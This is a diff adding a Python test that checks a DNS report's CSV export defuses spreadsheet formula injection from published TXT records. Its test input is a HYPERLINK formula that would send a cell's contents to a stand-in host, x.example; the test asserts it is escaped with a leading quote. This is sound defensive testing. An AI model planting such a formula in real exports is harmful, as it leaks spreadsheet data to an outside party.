@@ -789,6 +789,21 @@ def test_the_report_gives_days_and_times_where_the_platform_is() -> None:
     assert re.findall(r"<text [^>]*>([^<]+)</text>", single) == ["2026-11-02"]
 
 
+def test_the_csv_keeps_a_published_formula_from_running_in_a_spreadsheet() -> None:
+    """A TXT record is anyone's to publish; the operator opens dns.csv in Excel."""
+    import csv
+    import io
+
+    from mailprov.report import to_csv
+
+    report = report_quoting('=HYPERLINK("http://x.example/?"&A1,"klik")')
+    (row,) = list(csv.DictReader(io.StringIO(to_csv(report, "en"))))
+    assert row["records"] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")"
+    assert not row["reason"].startswith(("=", "+", "-", "@"))
+    (plain,) = list(csv.DictReader(io.StringIO(to_csv(report_quoting("v=DMARC1; p=none"), "en"))))
+    assert plain["records"] == "v=DMARC1; p=none"  # nothing added where nothing is at risk
+
+
 def test_mails_quote_published_records_without_their_control_characters() -> None:
     from mailprov.notify import _problems
 
